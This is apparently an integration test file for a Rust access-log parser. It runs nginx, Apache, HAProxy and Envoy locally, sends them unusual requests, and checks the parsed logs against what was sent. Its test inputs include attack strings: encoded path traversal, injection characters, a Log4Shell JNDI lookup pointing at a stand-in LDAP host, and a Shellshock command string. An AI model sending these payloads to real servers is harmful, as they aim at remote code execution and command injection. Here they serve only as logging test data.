//! Access logs that nginx, Apache, HAProxy and Envoy write of requests sent to them,
//! odd ones among them, held against what was sent and answered.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

/// A folder, and the programs that run in it until it goes.
struct Lab {
    folder: tempfile::TempDir,
    running: Vec<Child>,
}

impl Drop for Lab {
    fn drop(&mut self) {
        self.stop();
    }
}

impl Lab {
    /// None, said aloud, where a program is not there.
    fn or_skip(test: &str, programs: &[&str]) -> Option<Self> {
        for program in programs {
            if find(program).is_none() {
                eprintln!("{test}: skipped: {program} is missing (tools/setup test)");
                return None;
            }
        }
        let folder = tempfile::tempdir().unwrap();
        Some(Self { folder, running: Vec::new() })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn write(&self, name: &str, text: &str) -> String {
        fs::write(self.path(name), text).unwrap();
        self.path(name).to_str().unwrap().to_owned()
    }

    /// Runs a server; comes back once it takes connections at `port`.
    fn serve(&mut self, program: &str, arguments: &[&str], stdout: &str, port: u16) {
        let mut command = Command::new(find(program).unwrap());
        command.args(arguments).stdout(File::create(self.path(stdout)).unwrap());
        command.stderr(File::create(self.path("stderr")).unwrap()).stdin(Stdio::null());
        self.running.push(command.spawn().unwrap());
        let begun = Instant::now();
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            let said = fs::read_to_string(self.path("stderr")).unwrap_or_default();
            assert!(begun.elapsed() < Duration::from_secs(20), "{program} is not up: {said}");
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// Waits until a log has so many lines of requests.
    fn wait_for(&self, log: &str, lines: usize) {
        let begun = Instant::now();
        let written = || fs::read_to_string(self.path(log)).unwrap().matches("127.0.0.1:").count();
        while written() < lines {
            assert!(begun.elapsed() < Duration::from_secs(10), "{} of {lines} lines", written());
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// Waits until a log has so many lines: a server that is ended first may not have
    /// written the last ones.
    fn wait_for_lines(&self, log: &str, count: usize) {
        let begun = Instant::now();
        let lines = || {
            let log = fs::read(self.path(log)).unwrap_or_default();
            log.iter().filter(|&&byte| byte == b'\n').count()
        };
        while lines() < count && begun.elapsed() < Duration::from_secs(10) {
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    /// Ends what runs, so that all is written.
    fn stop(&mut self) {
        for mut child in self.running.drain(..) {
            let pid = rustix::process::Pid::from_child(&child);
            let _ = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
            let begun = Instant::now();
            while child.try_wait().unwrap().is_none() {
                if begun.elapsed() > Duration::from_secs(10) {
                    let _ = child.kill();
                }
                std::thread::sleep(Duration::from_millis(10));
            }
        }
    }

    /// The requests that the binary reads in a log: of which kind it is, and by the
    /// client's port.
    fn read(&self, log: &str, arguments: &[&str]) -> (String, BTreeMap<u64, Value>) {
        let out = self.path(&format!("out-{log}"));
        let mut command = Command::new(env!("CARGO_BIN_EXE_flowtap"));
        // What was asked for is held against what the log says of it.
        command.args(["read", "--quiet", "--keep-query-values", log, "--out"]).arg(&out);
        command.args(arguments);
        command.current_dir(self.folder.path()).env("XDG_STATE_HOME", self.path("state"));
        let output = command.output().unwrap();
        let text = String::from_utf8_lossy(&fs::read(self.path(log)).unwrap()).into_owned();
        assert!(output.status.success(), "{}\n{text}", String::from_utf8_lossy(&output.stderr));
        let summary: Value =
            serde_json::from_slice(&fs::read(out.join("summary.json")).unwrap()).unwrap();
        let source = &summary["sources"][0];
        assert!(source.get("bad").is_none(), "{source}\n{text}");
        let lines = fs::read_to_string(out.join("requests.ndjson")).unwrap();
        let requests: Vec<Value> =
            lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        let by_port = requests.into_iter().enumerate().map(|(at, request)| {
            // Of logs without the port: in the order of sending.
            let port = request["client_port"].as_u64().unwrap_or(at as u64);
            (if request.get("status").is_none() { NO_HTTP | port } else { port }, request)
        });
        (source["kind"].as_str().unwrap().to_owned(), by_port.collect())
    }
}

/// What was no HTTP goes by another number than its client's port: the same port may also be
/// that of a request to another port of the server.
const NO_HTTP: u64 = 1 << 32;

fn find(program: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let folders = std::env::split_paths(&path).chain([PathBuf::from("/usr/sbin")]);
    folders.map(|folder| folder.join(program)).find(|file| file.is_file())
}

/// A port that nobody listened on just now.
fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

/// A server that answers every request with the same, until the test's end.
fn backend() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for connection in listener.incoming() {
            let mut connection = connection.unwrap();
            let mut asked: Vec<u8> = Vec::new();
            let mut buffer = [0; 4096];
            while !asked.windows(4).any(|end| end == b"\r\n\r\n") {
                match connection.read(&mut buffer) {
                    Ok(n) if n > 0 => asked.extend(&buffer[..n]),
                    _ => break,
                }
            }
            let _ = connection.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n",
            );
        }
    });
    port
}

/// What a client sent, and what came back.
struct Exchange {
    port: u64,
    sent: Vec<u8>,
    answer: Vec<u8>,
    /// What is expected of a log that has the request line.
    method: Option<&'static str>,
    uri: Option<String>,
}

impl Exchange {
    fn status(&self) -> Option<u64> {
        let head = String::from_utf8_lossy(&self.answer).into_owned();
        head.strip_prefix("HTTP/1.")?.get(2..5)?.parse().ok()
    }
}

const AGENT: &str = r#"odd "quoted" \back\ #{a|b} agent"#;

/// Request lines with their method and URI, the last ones malformed.
fn lines() -> Vec<(Vec<u8>, Option<&'static str>, Option<String>)> {
    let of = |method: &'static str, uri: &str| {
        (format!("{method} {uri} HTTP/1.1").into_bytes(), Some(method), Some(uri.to_owned()))
    };
    let long = format!("/{}", "a".repeat(700));
    vec![
        of("GET", "/item?id=7"),
        of("GET", "/a%2e%2e/%252e%252e/etc?q=%27%22"),
        of("GET", r#"/?q="<>'`\x41|"#),
        of("GET", "/?x=${jndi:ldap://192.0.2.1/a}"),
        of("POST", "/post"),
        of("OPTIONS", "/"),
        of("PURGE", "/cache"),
        of("GET", &long),
        (b"GET  /two HTTP/1.1".to_vec(), Some("GET"), Some("/two".into())),
        (b"GET /a b HTTP/1.1".to_vec(), Some("GET"), Some("/a b".into())),
        (b"GET /\xff\xc0\xaf HTTP/1.1".to_vec(), Some("GET"), Some(r"/\xff\xc0\xaf".into())),
        (
            b"\x16\x03\x01\x02\x01\x05".to_vec(),
            None,
            Some("\u{16}\u{3}\u{1}\u{2}\u{1}\u{5}".into()),
        ),
        (b"() { :; }; id".to_vec(), None, Some("() { :; }; id".into())),
    ]
}

/// Sends all of them to a server.
fn ask(port: u16) -> Vec<Exchange> {
    let exchange = |(line, method, uri): (Vec<u8>, _, _)| {
        let mut client = TcpStream::connect(("127.0.0.1", port)).unwrap();
        client.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let mut sent = line;
        sent.extend(format!(
            "\r\nHost: shop.example\r\nUser-Agent: {AGENT}\r\nReferer: http://ref.example/\"a\"\r\n\
             Cookie: session=secret\r\nConnection: close\r\n"
        ).into_bytes());
        if method == Some("POST") {
            sent.extend(b"Content-Length: 3\r\n\r\nabc");
        } else {
            sent.extend(b"\r\n");
        }
        let local = u64::from(client.local_addr().unwrap().port());
        client.write_all(&sent).unwrap();
        let mut answer = Vec::new();
        let _ = client.read_to_end(&mut answer);
        let _ = client.shutdown(Shutdown::Both);
        Exchange { port: local, sent, answer, method, uri }
    };
    lines().into_iter().map(exchange).collect()
}

/// What a log that has the request line says of each exchange.
fn agree(exchange: &Exchange, request: &Value) {
    let said = |key: &str| request.get(key).and_then(Value::as_str);
    assert_eq!(said("uri"), exchange.uri.as_deref(), "{request}");
    agree_but_for_uri(exchange, request);
}

fn agree_but_for_uri(exchange: &Exchange, request: &Value) {
    let said = |key: &str| request.get(key).and_then(Value::as_str);
    assert_eq!(said("method"), exchange.method, "{request}");
    assert_eq!(request["status"].as_u64(), exchange.status(), "{request}");
    assert!(!request.to_string().contains("secret"), "{request}");
}

/// Apache takes the last word of a line that is no request for its version, and
/// leaves it out.
fn agree_as_apache_logs(exchange: &Exchange, request: &Value) {
    if exchange.status() != Some(400) {
        return agree(exchange, request);
    }
    agree_but_for_uri(exchange, request);
    let (said, sent) = (request["uri"].as_str().unwrap(), exchange.uri.as_deref().unwrap());
    assert!(said.len() > 3 && sent.starts_with(said), "{request}");
}

#[test]
fn nginx_logs_what_clients_sent() {
    let Some(mut lab) = Lab::or_skip("nginx", &["nginx"]) else { return };
    let (port, behind) = (free_port(), backend());
    let format = r#"$remote_addr:$remote_port [$time_local] $msec "$request" $status/$upstream_status $request_length $bytes_sent $request_time $upstream_addr $upstream_header_time "$http_referer" "$http_user_agent" "$http_cookie" $host"#;
    let json = r#"{"at":"$time_iso8601","port":$remote_port,"request":"$request","status":$status,"agent":"$http_user_agent"}"#;
    let folder = lab.folder.path().display().to_string();
    let configuration = format!(
        "daemon off; master_process off; pid {folder}/pid; error_log {folder}/error;
         events {{}}
         http {{
             log_format full '{format}';
             log_format lines escape=json '{json}';
             access_log {folder}/combined.log combined;
             access_log {folder}/full.log full;
             access_log {folder}/json.log lines;
             server {{ listen 127.0.0.1:{port}; location / {{ proxy_pass http://127.0.0.1:{behind}; }} }}
         }}"
    );
    let file = lab.write("nginx.conf", &configuration);
    lab.serve("nginx", &["-c", &file], "stdout", port);
    let exchanges = ask(port);
    lab.wait_for_lines("json.log", exchanges.len());
    lab.stop();

    let (kind, combined) = lab.read("combined.log", &[]);
    assert_eq!(kind, "combined");
    let log = fs::read(lab.path("combined.log")).unwrap();
    assert_eq!(combined.len(), exchanges.len(), "{}", String::from_utf8_lossy(&log));
    for (exchange, request) in exchanges.iter().zip(combined.values()) {
        agree(exchange, request);
        assert_eq!(request["client_ip"], "127.0.0.1");
    }
    let (_, full) = lab.read("full.log", &["--as", "nginx", "--fields", format]);
    let (_, lines) =
        lab.read("json.log", &["--as", "nginx", "--fields", &format!("escape=json {json}")]);
    for exchange in &exchanges {
        agree(exchange, &full[&exchange.port]);
        agree(exchange, &lines[&exchange.port]);
        let request = &full[&exchange.port];
        assert_eq!(request["sent_bytes"], exchange.answer.len(), "{request}");
        if exchange.status() == Some(200) {
            assert_eq!(request["received_bytes"], exchange.sent.len(), "{request}");
            assert_eq!(request["user_agent"], AGENT);
            assert_eq!(request["referer"], "http://ref.example/\"a\"");
            assert_eq!(request["target"]["port"], behind);
            assert_eq!(request["target_status"], 200);
            assert!(request["end"].as_str() >= request["time"].as_str());
            assert_eq!(lines[&exchange.port]["user_agent"], AGENT);
        }
    }
    assert!(exchanges.iter().filter(|exchange| exchange.status() == Some(200)).count() >= 8);
}

#[test]
fn apache_logs_what_clients_sent() {
    let Some(mut lab) = Lab::or_skip("apache2", &["apache2"]) else { return };
    let port = free_port();
    let format = r#"%a:%{remote}p %v %{%Y-%m-%d %T}t.%{usec_frac}t %{%z}t \"%r\" %>s %I %O %D \"%{Referer}i\" \"%{User-Agent}i\" %{Cookie}i"#;
    let folder = lab.folder.path().display().to_string();
    let modules = "/usr/lib/apache2/modules";
    let configuration = format!(
        "ServerRoot {folder}\nPidFile {folder}/pid\nErrorLog {folder}/error\nListen 127.0.0.1:{port}\n\
         LoadModule mpm_event_module {modules}/mod_mpm_event.so\n\
         LoadModule authz_core_module {modules}/mod_authz_core.so\n\
         User www-data\nGroup www-data\nServerName shop.example\nDocumentRoot {folder}\n\
         LogFormat \"{format}\" full\n\
         LogFormat \"%h %l %u %t \\\"%r\\\" %>s %b\" common\n\
         LogFormat \"%v:%p %h %l %u %t \\\"%r\\\" %>s %O \\\"%{{Referer}}i\\\" \\\"%{{User-Agent}}i\\\"\" by_host\n\
         CustomLog {folder}/full.log full\nCustomLog {folder}/common.log common\n\
         CustomLog {folder}/by_host.log by_host\n"
    );
    let file = lab.write("apache.conf", &configuration);
    lab.serve("apache2", &["-f", &file, "-DFOREGROUND"], "stdout", port);
    let exchanges = ask(port);
    lab.wait_for_lines("by_host.log", exchanges.len());
    lab.stop();

    let (_, full) = lab.read("full.log", &["--as", "apache", "--fields", format]);
    for exchange in &exchanges {
        let request = &full[&exchange.port];
        agree_as_apache_logs(exchange, request);
        assert_eq!(request["sent_bytes"], exchange.answer.len(), "{request}");
        assert!(request["duration_ns"].as_u64() > Some(0), "{request}");
        // Of what it refuses Apache reads no more than the line.
        if exchange.status() != Some(400) {
            assert_eq!(request["received_bytes"], exchange.sent.len(), "{request}");
            assert_eq!(request["user_agent"], AGENT);
        }
    }
    for (log, expected) in [("common.log", "combined"), ("by_host.log", "apache")] {
        let (kind, requests) = lab.read(log, &[]);
        assert_eq!(kind, expected);
        // Connections that ended before they asked anything are in Apache's log too.
        let asked: Vec<_> = requests.values().filter(|request| request["status"] != 408).collect();
        assert_eq!(asked.len(), exchanges.len());
        for (exchange, request) in exchanges.iter().zip(asked) {
            agree_as_apache_logs(exchange, request);
        }
    }
}

#[test]
fn haproxy_logs_what_clients_sent() {
    let Some(mut lab) = Lab::or_skip("haproxy", &["haproxy"]) else { return };
    let (port, tcp_port, behind) = (free_port(), free_port(), backend());
    let syslogs = ["rfc3164", "rfc5424"].map(|format| {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
        (format, socket)
    });
    let logs: String = syslogs
        .iter()
        .map(|(format, socket)| {
            format!("log {} len 4096 format {format} local0\n", socket.local_addr().unwrap())
        })
        .collect();
    let configuration = format!(
        "global\n log stdout len 4096 format raw local0\n {logs}\
         defaults\n mode http\n log global\n option dontlognull\n timeout connect 1s\n\
          timeout client 5s\n timeout server 5s\n\
         frontend web\n bind 127.0.0.1:{port}\n option httplog\n\
          capture request header User-Agent len 64\n capture response header Server len 20\n\
          default_backend app\n\
         frontend raw\n mode tcp\n bind 127.0.0.1:{tcp_port}\n option tcplog\n default_backend tcp\n\
         backend app\n server srv1 127.0.0.1:{behind}\n\
         backend tcp\n mode tcp\n server srv2 127.0.0.1:{behind}\n"
    );
    let file = lab.write("haproxy.cfg", &configuration);
    lab.serve("haproxy", &["-f", &file], "raw.log", port);
    let exchanges = ask(port);
    let over_tcp = ask(tcp_port);
    // Of TCP a line comes when both ends have closed.
    lab.wait_for("raw.log", exchanges.len() + over_tcp.len());
    lab.stop();
    for (format, socket) in syslogs {
        let mut log = File::create(lab.path(&format!("{format}.log"))).unwrap();
        let mut datagram = [0; 8192];
        while let Ok(n) = socket.recv(&mut datagram) {
            log.write_all(datagram[..n].trim_ascii_end()).unwrap();
            log.write_all(b"\n").unwrap();
        }
    }
    for log in ["raw.log", "rfc3164.log", "rfc5424.log"] {
        let (kind, requests) = lab.read(log, &[]);
        assert_eq!(kind, "haproxy");
        for exchange in &exchanges {
            let request = &requests[&exchange.port];
            assert_eq!(request["status"].as_u64(), exchange.status());
            if exchange.status() == Some(400) {
                assert!(request.get("method").is_none() && request["error"] == "PR--", "{request}");
                continue;
            }
            agree(exchange, request);
            // HAProxy counts heads as it keeps them, not as it sends them.
            let sent_bytes = request["sent_bytes"].as_u64().unwrap() as usize;
            assert!((7..=exchange.answer.len()).contains(&sent_bytes), "{request}");
            assert_eq!(request["target"]["name"], "app/srv1");
            assert_eq!(request["labels"]["haproxy.captured_request_headers"], AGENT);
        }
        for exchange in &over_tcp {
            let request = &requests[&(NO_HTTP | exchange.port)];
            assert_eq!(request["target"]["name"], "tcp/srv2");
            assert_eq!(request["sent_bytes"], exchange.answer.len());
            assert!(request.get("status").is_none());
        }
    }
    assert!(exchanges.iter().filter(|exchange| exchange.status() == Some(200)).count() >= 8);
}

/// Envoy is not in Debian; where it is on PATH it is held against what was sent.
#[test]
fn envoy_logs_what_clients_sent() {
    let Some(mut lab) = Lab::or_skip("envoy", &["envoy"]) else { return };
    let ports = [free_port(), free_port(), free_port()];
    let behind = backend();
    let istio = r#"[%START_TIME%] "%REQ(:METHOD)% %REQ(X-ENVOY-ORIGINAL-PATH?:PATH)% %PROTOCOL%" %RESPONSE_CODE% %RESPONSE_FLAGS% %RESPONSE_CODE_DETAILS% %CONNECTION_TERMINATION_DETAILS% "%UPSTREAM_TRANSPORT_FAILURE_REASON%" %BYTES_RECEIVED% %BYTES_SENT% %DURATION% %RESP(X-ENVOY-UPSTREAM-SERVICE-TIME)% "%REQ(X-FORWARDED-FOR)%" "%REQ(USER-AGENT)%" "%REQ(X-REQUEST-ID)%" "%REQ(:AUTHORITY)%" "%UPSTREAM_HOST%" %UPSTREAM_CLUSTER% %UPSTREAM_LOCAL_ADDRESS% %DOWNSTREAM_LOCAL_ADDRESS% %DOWNSTREAM_REMOTE_ADDRESS% %REQUESTED_SERVER_NAME% %ROUTE_NAME%"#;
    let json = serde_json::json!({
        "start_time": "%START_TIME%", "method": "%REQ(:METHOD)%", "path": "%REQ(:PATH)%",
        "protocol": "%PROTOCOL%", "response_code": "%RESPONSE_CODE%",
        "response_flags": "%RESPONSE_FLAGS%", "bytes_sent": "%BYTES_SENT%",
        "duration": "%DURATION%", "user_agent": "%REQ(USER-AGENT)%", "authority": "%REQ(:AUTHORITY)%",
        "upstream_host": "%UPSTREAM_HOST%", "downstream_remote_address": "%DOWNSTREAM_REMOTE_ADDRESS%",
        "cookie": "%REQ(COOKIE)%",
    });
    let formats = [
        Value::Null,
        serde_json::json!({"text_format_source": {"inline_string": format!("{istio}\n")}}),
        serde_json::json!({"json_format": json}),
    ];
    let logs = ["default.log", "istio.log", "json.log"];
    let types = "type.googleapis.com/envoy.extensions";
    let listener = |port: u16, log: &str, format: &Value| {
        let mut file = serde_json::json!({
            "@type": format!("{types}.access_loggers.file.v3.FileAccessLog"),
            "path": lab.path(log),
        });
        if !format.is_null() {
            file["log_format"] = format.clone();
        }
        serde_json::json!({
            "address": {"socket_address": {"address": "127.0.0.1", "port_value": port}},
            "filter_chains": [{"filters": [{"name": "http", "typed_config": {
                "@type": format!("{types}.filters.network.http_connection_manager.v3.HttpConnectionManager"),
                "stat_prefix": "http",
                "http_filters": [{"name": "router", "typed_config": {
                    "@type": format!("{types}.filters.http.router.v3.Router"),
                }}],
                "route_config": {"virtual_hosts": [{"name": "all", "domains": ["*"], "routes": [
                    {"match": {"prefix": "/"}, "route": {"cluster": "app"}},
                ]}]},
                "access_log": [{"name": "file", "typed_config": file}],
            }}]}],
        })
    };
    let listeners: Vec<_> = ports
        .iter()
        .zip(logs)
        .zip(&formats)
        .map(|((port, log), format)| listener(*port, log, format))
        .collect();
    let configuration = serde_json::json!({"static_resources": {
        "listeners": listeners,
        "clusters": [{"name": "app", "type": "STATIC", "load_assignment": {
            "cluster_name": "app", "endpoints": [{"lb_endpoints": [{"endpoint": {
                "address": {"socket_address": {"address": "127.0.0.1", "port_value": behind}},
            }}]}],
        }}],
    }});
    let file = lab.write("envoy.json", &configuration.to_string());
    let arguments = ["-c", &file, "--concurrency", "1", "--use-dynamic-base-id"];
    lab.serve("envoy", &arguments, "stdout", ports[2]);
    let exchanges = ports.map(ask);
    lab.stop();
    for (log, exchanges) in logs.iter().zip(&exchanges) {
        let (kind, requests) = lab.read(log, &[]);
        assert_eq!(kind, "envoy");
        // Its default has no client.
        let by_order = requests.len() == exchanges.len() && requests.contains_key(&0);
        for (at, exchange) in exchanges.iter().enumerate() {
            let request = &requests[&if by_order { at as u64 } else { exchange.port }];
            if exchange.status() == Some(400) {
                assert!(request.get("method").is_none() && request["error"] == "DPE", "{request}");
                continue;
            }
            agree(exchange, request);
            assert_eq!(request["user_agent"], AGENT);
            assert_eq!(request["target"]["port"], behind);
            assert_eq!(request["host"], "shop.example");
        }
        assert!(exchanges.iter().filter(|exchange| exchange.status() == Some(200)).count() >= 8);
    }
}

/// Files of programs and of vendors' documentation: see the README beside them.
#[test]
fn fixtures_are_recognised_and_read_without_a_bad_record() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/access_log");
    let mut read = 0;
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_str().unwrap();
        if name == "README.md" {
            continue;
        }
        let lab = Lab { folder: tempfile::tempdir().unwrap(), running: Vec::new() };
        fs::copy(&path, lab.path(name)).unwrap();
        let (kind, requests) = lab.read(name, &[]);
        assert!(name.starts_with(&kind), "{name} is read as {kind}");
        assert!(!requests.is_empty(), "{name}");
        read += 1;
    }
    assert!(read >= 10, "only {read} fixtures");
}
